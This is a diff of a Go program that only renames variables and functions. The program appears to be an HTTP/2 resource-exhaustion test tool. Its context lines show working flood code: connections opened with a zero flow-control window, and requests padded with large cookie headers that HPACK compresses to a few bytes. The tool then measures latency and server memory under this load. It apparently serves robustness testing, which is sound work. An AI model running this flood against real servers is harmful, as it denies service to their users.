@@ -51,7 +51,7 @@ func main() {
 	kinds := map[string]func(context.Context) error{
 		"none":     func(context.Context) error { return nil },
 		"busy":     busy,
-		"held":     f.held,
+		"held":     f.holdStreams,
 		"reset":    f.reset,
 		"settings": f.settings,
 		"data":     f.data,
@@ -71,7 +71,7 @@ func main() {
 		})
 	}
 	before := resident(pid)
-	times, failures, most := measure(ctx, f.server, probe, probePath, pid)
+	times, failures, maxResident := measure(ctx, f.server, probe, probePath, pid)
 	all.Wait()
 	slices.Sort(times)
 	if len(times) == 0 {
@@ -79,11 +79,11 @@ func main() {
 	}
 	fmt.Printf("%-9s connections %d (%d opened), frames %d; another caller: %d answers, %d failures, p50 %v, max %v; "+
 		"RSS %d -> %d MiB\n", kind, f.connections, f.opened.Load(), f.frames.Load(), len(times), failures,
-		times[len(times)/2].Round(time.Millisecond), times[len(times)-1].Round(time.Millisecond), before, most)
+		times[len(times)/2].Round(time.Millisecond), times[len(times)-1].Round(time.Millisecond), before, maxResident)
 }
 
 // measure sends requests of another caller until ctx ends.
-func measure(ctx context.Context, server, token, path string, pid int) (times []time.Duration, failures, most int) {
+func measure(ctx context.Context, server, token, path string, pid int) (times []time.Duration, failures, maxResident int) {
 	client := &http.Client{
 		Transport: &http.Transport{
 			ForceAttemptHTTP2: true,
@@ -95,7 +95,7 @@ func measure(ctx context.Context, server, token, path string, pid int) (times []
 		began := time.Now()
 		r, err := http.NewRequestWithContext(context.WithoutCancel(ctx), http.MethodGet, "https://"+server+path, http.NoBody)
 		if err != nil {
-			return times, 1, most
+			return times, 1, maxResident
 		}
 		r.Header.Set("Authorization", "Bearer "+token)
 		resp, err := client.Do(r)
@@ -107,10 +107,10 @@ func measure(ctx context.Context, server, token, path string, pid int) (times []
 			failures++
 		}
 		times = append(times, time.Since(began))
-		most = max(most, resident(pid))
+		maxResident = max(maxResident, resident(pid))
 		time.Sleep(20 * time.Millisecond)
 	}
-	return times, failures, most
+	return times, failures, maxResident
 }
 
 // resident returns the resident memory of a process in MiB, or 0 if there is no such process.
@@ -140,7 +140,7 @@ type connection struct {
 	buffer bytes.Buffer
 	fields *hpack.Encoder
 	stream uint32
-	of     *flood
+	flood  *flood
 }
 
 // open opens a connection, and discards what the server sends.
@@ -157,7 +157,7 @@ func (f *flood) open(ctx context.Context, settings ...http2.Setting) (*connectio
 	c := &connection{
 		Framer: http2.NewFramer(conn, conn),
 		conn:   conn,
-		of:     f,
+		flood:  f,
 		stream: 1,
 	}
 	c.fields = hpack.NewEncoder(&c.buffer)
@@ -172,14 +172,14 @@ func (c *connection) begin(method string, end bool, cookies int) error {
 	write := func(name, value string) { _ = c.fields.WriteField(hpack.HeaderField{Name: name, Value: value}) }
 	write(":method", method)
 	write(":scheme", "https")
-	write(":authority", c.of.server)
-	write(":path", c.of.path)
-	write("authorization", "Bearer "+c.of.token)
+	write(":authority", c.flood.server)
+	write(":path", c.flood.path)
+	write("authorization", "Bearer "+c.flood.token)
 	for range cookies {
 		write("cookie", strings.Repeat("c", 3900))
 	}
 	c.stream += 2
-	c.of.frames.Add(1)
+	c.flood.frames.Add(1)
 	return c.WriteHeaders(http2.HeadersFrameParam{
 		StreamID:      c.stream,
 		BlockFragment: c.buffer.Bytes(),
@@ -188,9 +188,9 @@ func (c *connection) begin(method string, end bool, cookies int) error {
 	})
 }
 
-// held starts streams whose responses the server cannot write, because their window is 0. Each has
+// holdStreams starts streams whose responses the server cannot write, because their window is 0. Each has
 // 58 KB of cookies in 15 bytes of HPACK.
-func (f *flood) held(ctx context.Context) error {
+func (f *flood) holdStreams(ctx context.Context) error {
 	c, err := f.open(ctx, http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
 	if err != nil {
 		return err
